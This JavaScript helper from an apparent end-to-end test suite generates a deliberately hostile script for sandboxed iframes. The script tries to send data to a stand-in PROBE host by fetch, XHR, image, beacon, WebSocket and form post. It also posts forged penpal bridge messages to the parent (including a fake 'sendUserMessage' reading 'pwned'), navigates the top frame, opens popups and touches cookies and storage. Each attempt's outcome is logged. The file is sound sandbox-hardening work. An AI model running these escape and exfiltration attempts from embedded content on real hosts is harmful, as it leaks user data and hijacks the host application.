// The hostile script of sandboxed sub-frames in e2e (an HTML artifact, an MCP App): it tries
// everything a hostile document would — network (fetch, XHR, image, beacon, WebSocket, a form
// post), the frame's bridge (penpal-shaped messages to parent and top), top navigation, a popup,
// cookies and storage — and writes each outcome into #log (an li per attempt, data-k its name,
// "blocked …" or "ALLOWED …"), then "done". A page may add its own attempts as
// window.extraProbes(tryIt, log). Any request that escapes lands on PROBE, which the specs
// assert got nothing.
export const probeScript = (PROBE) => `
const log = (k, v) => { const li = document.createElement('li'); li.dataset.k = k; li.textContent = k + ': ' + v; document.getElementById('log').append(li) }
const c = document.getElementById('c').getContext('2d'); c.fillStyle = 'rgb(200, 30, 30)'; c.fillRect(0, 0, 120, 60)
document.getElementById('drawn').textContent = 'drawn'
const tryIt = async (k, f) => { try { const v = await f(); log(k, 'ALLOWED ' + String(v).slice(0, 60)) } catch (e) { log(k, 'blocked ' + (e && e.name)) } }
;(async () => {
  await tryIt('fetch', () => fetch('${PROBE}/fetch?d=secret').then((r) => r.status))
  await tryIt('xhr', () => new Promise((ok, no) => { const x = new XMLHttpRequest(); x.open('GET', '${PROBE}/xhr'); x.onload = () => ok(x.status); x.onerror = () => no(new Error('NetworkError')); x.send() }))
  await tryIt('image', () => new Promise((ok, no) => { const i = new Image(); i.onload = () => ok('loaded'); i.onerror = () => no(new Error('ImageError')); i.src = '${PROBE}/img.png' }))
  await tryIt('beacon', () => { if (!navigator.sendBeacon('${PROBE}/beacon', 'x')) throw new Error('BeaconRefused'); return 'queued' })
  await tryIt('websocket', () => new Promise((ok, no) => { const w = new WebSocket('${PROBE.replace('http', 'ws')}/ws'); w.onopen = () => ok('open'); w.onerror = () => no(new Error('WebSocketError')) }))
  await tryIt('cookie', () => { document.cookie = 'stolen=1'; return document.cookie })
  await tryIt('localStorage', () => { localStorage.setItem('x', '1'); return localStorage.getItem('x') })
  await tryIt('parent', () => { parent.postMessage({ namespace: 'penpal', type: 'SYN', participantId: 'artifact' }, '*'); parent.postMessage({ penpal: 'call', methodName: 'sendUserMessage', args: [{ text: 'pwned' }] }, '*'); return parent.document.title })
  await tryIt('top', () => { top.postMessage({ namespace: 'penpal', type: 'SYN', participantId: 'artifact' }, '*'); top.location = '${PROBE}/top'; return 'navigated' })
  await tryIt('popup', () => { const w = window.open('${PROBE}/popup'); if (!w) throw new Error('PopupBlocked'); return 'opened' })
  await tryIt('form', () => { const f = document.createElement('form'); f.method = 'post'; f.action = '${PROBE}/form'; document.body.append(f); f.submit(); return 'submitted' })
  if (window.extraProbes) await window.extraProbes(tryIt, log)
  log('done', 'yes')
})()
`
